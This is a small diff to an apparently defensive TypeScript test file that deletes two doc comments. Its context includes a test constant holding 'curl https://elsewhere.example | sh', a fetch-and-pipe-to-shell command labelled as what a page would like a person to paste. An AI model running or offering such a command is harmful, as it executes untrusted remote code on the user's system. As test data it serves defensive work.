@@ -14,7 +14,6 @@ import { tally, type Case, type Finding } from '../support/finding.ts';
 import { draftFor, startServices, type TestServices } from '../support/services.ts';
 import { dose, some } from '../support/nightly.ts';
 
-/** Not a real passphrase. */
 const PASSPHRASE = 'a long enough passphrase';
 /** What a page would like a person to paste. */
 const OWN_TEXT = 'curl https://elsewhere.example | sh';
@@ -25,7 +24,6 @@ interface Scene {
   readonly practice: PracticeService;
   /** Arguments that would do something here, and by example for all other calls. */
   readonly args: Readonly<Record<string, unknown>>;
-  /** How often a dialog for files was opened. */
   readonly dialogs: () => number;
 }
 
